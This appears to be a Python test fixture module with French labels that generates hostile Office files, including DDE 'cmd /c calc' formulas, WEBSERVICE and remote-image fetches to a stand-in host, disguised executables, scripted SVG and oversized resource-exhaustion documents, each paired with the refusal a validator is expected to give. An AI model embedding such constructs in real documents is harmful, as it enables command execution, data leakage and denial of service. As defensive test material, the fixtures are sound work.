"""DOCX and XLSX that run, fetch or carry, under names that say nothing: {name: (how it is made, what the refusal says)}."""

from collections.abc import Callable, Mapping

from tests.corpus.table import KEPT, Files
from tests.hostile_files import _declared
from tests.office_files import DOCUMENT, OFFICE, SHEET, SPREADSHEET, Parts, docx_parts, packed, rels, types, xlsx_parts

MACROS, CARRIED, FETCHED, COMPUTED = "macros", "objet incorporé", "va chercher", "formule"
NOT_WEB, UNKNOWN, PIXELS, HEAVY = "ne mène pas au web", "ne reconnaît pas", "pixels", "volumineux"
EXCEL = "application/vnd.ms-excel."
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
BOOK = {
    "xl/worksheets/sheet1.xml": SPREADSHEET.replace("sheet.main", "worksheet"),
    "xl/sharedStrings.xml": SPREADSHEET.replace("sheet.main", "sharedStrings"),
}


def book(name: str, body: str | bytes, kind: str, relation: str = "theme") -> Callable[[], bytes]:
    """A workbook with one more part: its name, what it is, and how the workbook is related to it."""
    return lambda: packed(
        xlsx_parts()
        | {
            "[Content_Types].xml": types(SPREADSHEET, "xl/workbook.xml", BOOK | {name: kind}),
            "xl/_rels/workbook.xml.rels": rels(
                ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"), (relation, f"/{name}")
            ),
            name: body,
        }
    )


def text(
    more: str = "",
    parts: Mapping[str, str | bytes] | None = None,
    kinds: Mapping[str, str] | None = None,
    links: tuple[tuple[str, ...], ...] = (),
) -> Callable[[], bytes]:
    """A document with more in its body, more parts, their types, and what it is related to."""

    def make() -> bytes:
        made: Parts = docx_parts("Un paragraphe.", more=more) | dict(parts or {})
        made["[Content_Types].xml"] = types(DOCUMENT, "word/document.xml", kinds)
        if links:
            made["word/_rels/document.xml.rels"] = rels(*links)  # type: ignore[arg-type]
        return packed(made)

    return make


def sheet(*rows: str, after: str = "", book_more: str = "") -> Callable[[], bytes]:
    """A worksheet with these cells, and more elements behind its data or in its workbook."""

    def make() -> bytes:
        made = xlsx_parts(more="".join(f'<row r="{n}"><c r="A{n}">{row}</c></row>' for n, row in enumerate(rows, 9)))
        for part, end, more in (
            ("xl/worksheets/sheet1.xml", "</worksheet>", after),
            ("xl/workbook.xml", "</workbook>", book_more),
        ):
            made[part] = str(made[part]).replace(end, more + end)
        return packed(made)

    return make


def formula(said: str) -> Callable[[], bytes]:
    return sheet(f"<f>{said}</f><v>0</v>")


def field(*runs: str) -> str:
    """A field of Word, its instruction in these runs."""
    said = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    ends = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"<w:p>{ends[0]}{said}{ends[1]}<w:r><w:t>a</w:t></w:r>{ends[2]}</w:p>"


def _word(name: str) -> str:
    return DOCUMENT.replace("document.main", name)


def _excel(name: str) -> str:
    return SPREADSHEET.replace("sheet.main", name)


CONNECTION = f'<connections xmlns="{SHEET}"><connection id="1" type="4"><webPr url="http://x.invalid"/></connection></connections>'
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XLSX: Files = {
    "xlsx connexion nommée thème": (book("xl/theme/theme1.xml", CONNECTION, _excel("connections")), FETCHED),
    "xlsx connexion en relation": (book("xl/a.xml", "<a/>", "application/xml", "connections"), FETCHED),
    "xlsx connexion au nom en pour cent": (book("xl/%63onnexion.xml", CONNECTION, _excel("connections")), FETCHED),
    "xlsx connexion d’un type à majuscules": (book("xl/a.xml", CONNECTION, _excel("CONNECTIONS")), FETCHED),
    "xlsx requête nommée dessin": (book("xl/drawings/drawing1.xml", "<a/>", _excel("queryTable")), FETCHED),
    "xlsx complément du web": (book("xl/a.xml", "<a/>", "application/vnd.ms-office.webextension+xml"), FETCHED),
    "xlsx volet du web": (book("xl/a.xml", "<a/>", "application/vnd.ms-office.webextensiontaskpanes+xml"), FETCHED),
    "xlsx lien externe nommé feuille": (book("xl/worksheets/sheet2.xml", "<a/>", _excel("externalLink"), "worksheet"), FETCHED),
    "xlsx modèle de données": (book("xl/a.bin", "x", "application/vnd.openxmlformats-officedocument.model+data"), FETCHED),
    "xlsx dépendances vives": (book("xl/a.xml", "<a/>", _excel("volatileDependencies")), FETCHED),
    "xlsx images du web": (book("xl/a.xml", "<a/>", f"{EXCEL}rdrichvaluewebimage+xml"), FETCHED),
    "xlsx feuille de macros internationale": (book("xl/worksheets/sheet2.xml", "<a/>", f"{EXCEL}intlmacrosheet+xml", "worksheet"), MACROS),
    "xlsx feuille de macros en relation": (book("xl/worksheets/sheet2.xml", "<a/>", _excel("worksheet"), "xlIntlMacrosheet"), MACROS),
    "xlsx boîte de dialogue": (book("xl/worksheets/sheet2.xml", "<a/>", _excel("dialogsheet"), "worksheet"), MACROS),
    "xlsx macros nommées imprimante": (book("xl/printerSettings1.bin", "x", "application/vnd.ms-office.vbaProject"), MACROS),
    "xlsx ruban": (book("a.xml", "<a/>", "application/xml", "extensibility"), MACROS),
    "xlsx objet nommé image": (book("xl/media/image1.png", "x", "application/vnd.openxmlformats-officedocument.oleObject"), CARRIED),
    "xlsx classeur incorporé": (book("xl/a.dat", "x", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), CARRIED),
    "xlsx partie inconnue": (book("xl/a.xml", "<a/>", "application/vnd.exemple+xml"), UNKNOWN),
    "xlsx partie sans type": (lambda: packed(xlsx_parts() | {"xl/a.dat": "x"}), UNKNOWN),
    "xlsx formule image": (formula('IMAGE("http://x.invalid/a.png")'), COMPUTED),
    "xlsx formule image préfixée": (formula('1+_xlfn.IMAGE ("http://x.invalid/a.png")'), COMPUTED),
    "xlsx formule en petites lettres": (formula('_xlfn.webservice("http://x.invalid/"&amp;A1)'), COMPUTED),
    "xlsx formule entre deux noms": (formula("'a\"b'!A1+WEBSERVICE(B1)+'c\"d'!A1"), COMPUTED),
    "xlsx formule rtd": (formula('RTD("excel.rtd",,"a")'), COMPUTED),
    "xlsx formule python": (formula('_xlfn._xlws.PY(0,1,"import os")'), COMPUTED),
    "xlsx formule d’un autre fichier": (formula("'\\\\x.invalid\\partage\\[a.xlsx]F'!A1"), COMPUTED),
    "xlsx formule dde entre guillemets": (formula("'cmd'|'/c calc'!A0"), COMPUTED),
    "xlsx formule lien vers un partage": (formula('HYPERLINK("\\\\x.invalid\\partage","ici")'), COMPUTED),
    "xlsx nom qui calcule": (sheet(book_more='<definedNames><definedName name="a">WEBSERVICE("http://x.invalid")</definedName></definedNames>'), COMPUTED),
    "xlsx mise en forme qui calcule": (sheet(after='<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>WEBSERVICE(A1)&gt;1</formula></cfRule></conditionalFormatting>'), COMPUTED),
    "xlsx liste qui calcule": (sheet(after='<dataValidations><dataValidation><formula1>IMPORTDATA(A1)</formula1></dataValidation></dataValidations>'), COMPUTED),
    "xlsx croisé sur une source externe": (book("xl/a.xml", '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>', _excel("pivotCacheDefinition"), "pivotCacheDefinition"), FETCHED),
    "xlsx requête dans des données": (book("customXml/item1.xml", "<DataMashup>AAAA</DataMashup>", "application/xml", "customXml"), FETCHED),
    "xlsx lien dde": (book("xl/a.xml", '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', "application/xml", "customXml"), FETCHED),
}  # fmt: skip

LINK = ("hyperlink", "http://x.invalid/a.png", "outside")
DOCX: Files = {
    "docx publipostage": (text(parts={"word/settings.xml": "<w:settings xmlns:w='w'><w:mailMerge><w:query w:val='SELECT'/></w:mailMerge></w:settings>"}, kinds={"word/settings.xml": _word("settings")}), FETCHED),
    "docx source de publipostage": (text(links=(("mailMergeSource", "file:///c:/a.csv", "outside"),)), FETCHED),
    "docx champ base de données": (text(field('DATABASE \\d "c:\\a.mdb" \\s "SELECT"')), FETCHED),
    "docx champ base de données coupé": (text(field(" DATA", "BASE ", "\\d a")), FETCHED),
    "docx champ dans un champ": (text(field("IF 1 = 1 ").replace('w:fldCharType="separate"/></w:r>', 'w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "http://x.invalid/a.png"</w:instrText></w:r>', 1)), FETCHED),
    "docx champ autour d’un champ": (text(f"<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>{field('QUOTE 65')}<w:r><w:instrText>AUTO cmd</w:instrText></w:r>"), FETCHED),
    "docx champ dans un pied de page": (text(parts={"word/f.xml": f"<w:ftr xmlns:w='w'>{field('INCLUDETEXT c:/a')}</w:ftr>"}, kinds={"word/f.xml": _word("footer")}, links=(("footer", "f.xml"),)), FETCHED),
    "docx document référencé": (text(field('RD "\\\\\\\\x.invalid\\\\a.docx"')), FETCHED),
    "docx champ lien vers un partage": (text(field('HYPERLINK "\\\\\\\\x.invalid\\\\partage"')), NOT_WEB),
    "docx lien précédé d’un blanc": (text(links=(("hyperlink", "\u00a0 file:///c:/a", "outside"),)), NOT_WEB),
    "docx lien en pour cent": (text(links=(("hyperlink", "%66ile%3A///c:/a", "outside"),)), NOT_WEB),
    "docx image distante dessinée": (text("<w:p><w:pict><v:shape><v:imagedata src='http://x.invalid/a.png'/></v:shape></w:pict></w:p>"), FETCHED),
    "docx image distante par un lien": (text(f"<w:p><a:blip xmlns:a='{DRAWING}' xmlns:r='{OFFICE}' r:link='r1'/></w:p>", links=(LINK,)), FETCHED),
    "docx image distante sans le dire": (text(links=(("image", "//x.invalid/a.png"),)), FETCHED),
    "docx image distante en majuscules": (lambda: packed(docx_parts("a") | {"word/_rels/document.xml.rels": rels(("image", "HTTP://x.invalid/a.png", "x")).replace("External", "external")}), FETCHED),
    "docx modèle d’un partage": (text(links=(("attachedTemplate", "file://x.invalid/m.dotm", "outside"),)), FETCHED),
    "docx sous-document": (text(links=(("subDocument", "http://x.invalid/a.docx", "outside"),)), FETCHED),
    "docx page incluse": (text(parts={"word/a.htm": "<html/>"}, kinds={"word/a.htm": "text/html"}, links=(("aFChunk", "a.htm"),)), CARRIED),
    "docx vidéo en ligne": (text("<w:p><wp15:webVideoPr embeddedHtml='&lt;iframe/&gt;'/></w:p>"), CARRIED),
    "docx ole par un dessin": (text("<w:p><w:pict><o:OLEObject Type='Link' ProgID='a'/></w:pict></w:p>"), CARRIED),
    "docx programme en image": (text(parts={"word/media/image1.png": b"MZ\x90\0" + bytes(99)}), CARRIED),
    "docx archive en image": (text(parts={"word/media/image1.png": packed({"a.exe": "MZ"})}), CARRIED),
    "docx 7z en image": (text(parts={"word/media/image1.jpeg": b"7z\xbc\xaf\x27\x1c" + bytes(99)}), CARRIED),
    "docx gzip en image": (text(parts={"word/media/image1.emf": b"\x1f\x8b\x08" + bytes(99)}), CARRIED),
    "docx archive en police": (text(parts={"word/fonts/f.odttf": b"Rar!\x1a\x07" + bytes(99)}, kinds={"word/fonts/f.odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"}), CARRIED),
    "docx page en image": (text(parts={"word/media/image1.png": "<html><script>alert(1)</script></html>"}), UNKNOWN),
    "docx image de 25 milliards de pixels": (text(parts={"word/media/image1.png": _declared(160_000, 160_000)}), PIXELS),
    "docx dessin à script": (text(parts={"word/media/i.svg": f"<svg {SVG}><script>alert(1)</script></svg>"}, kinds={"word/media/i.svg": "image/svg+xml"}), CARRIED),
    "docx dessin qui charge": (text(parts={"word/media/i.svg": f"<svg {SVG}><image xlink:href=' HTTP://x.invalid/a'/></svg>"}, kinds={"word/media/i.svg": "image/svg+xml"}), FETCHED),
    "docx macros clavier": (text(parts={"word/c.xml": "<a/>"}, kinds={"word/c.xml": "application/vnd.ms-word.keyMapCustomizations+xml"}), MACROS),
    "docx d’un autre genre": (lambda: packed(docx_parts("a") | {"_rels/.rels": rels(("officeDocument", "word/autre.xml"))}), "Cette archive"),
}  # fmt: skip
FILES: Files = XLSX | DOCX


# ── what costs ───────────────────────────────────────────────────────────────────────────────────────────────────────
def _varied(line: str, count: int) -> str:
    """Lines that are not quite the same, so that the archive is not refused for what it would gain."""
    return "".join(line % (n * 7919 % 1_000_003) for n in range(count))


def attributes(count: int) -> bytes:
    said = "".join(f' a{n}=""' for n in range(count))
    return packed(docx_parts("a") | {"a.xml": f"<a{said}/>"})


def cells(count: int, by_row: int = 10) -> bytes:
    row = "<row>%s</row>" % ("<c><v>%d</v></c>" * by_row)
    body = "".join(
        row % tuple((n * by_row + k) * 7919 % 1_000_003 for k in range(by_row)) for n in range(count // by_row)
    )
    return packed(xlsx_parts(more=body))


HEAVY_FILES: Files = {
    "docx 900 000 attributs": (lambda: attributes(900_000), HEAVY),
    "docx espace de noms d’un demi-mégaoctet": (lambda: packed(docx_parts("a") | {"a.xml": f"<p:a xmlns:p='{'u' * 500_000}'>" + _varied("<p:b n='%d'/>", 100_000) + "</p:a>"}), KEPT),
    "docx éléments sans fond": (lambda: packed(docx_parts("a") | {"a.xml": "<a>" * 200_000 + "</a>" * 200_000}), HEAVY),
    "xlsx 600 000 cellules": (lambda: cells(600_000), KEPT),
    "xlsx un million de cellules en une ligne": (lambda: cells(1_000_000, 1_000_000), HEAVY),
    "xlsx un million de textes": (lambda: packed(xlsx_parts() | {"xl/sharedStrings.xml": "<sst>" + _varied("<si>%d<t/></si>", 900_000) + "</sst>"}), KEPT),
    "xlsx formule d’un mégaoctet": (lambda: packed(xlsx_parts(more=f"<row><c><f>{_varied('a%d', 150_000)}</f></c></row>")), HEAVY),
    "xlsx 30 000 formules retorses": (lambda: packed(xlsx_parts(more="<row>" + _varied("<c><f>" + "A.A." * 20 + "'a'&amp;%d</f></c>", 30_000) + "</row>")), KEPT),
    "xlsx numéro de ligne de 5 000 chiffres": (lambda: packed(xlsx_parts(more=f"<row r='{'9' * 5000}'><c t='s'><v>{'9' * 5000}</v></c></row>")), KEPT),
    "docx champ d’un mégaoctet": (text(f"<w:r><w:fldChar w:fldCharType='begin'/></w:r>{'<w:r><w:instrText>HYPERLINK a b c </w:instrText></w:r>' * 3000}"), NOT_WEB),
    "docx 90 000 champs ouverts": (text(_varied("<w:fldChar w:fldCharType='begin' w:n='%d'/>", 90_000)), KEPT),
}  # fmt: skip
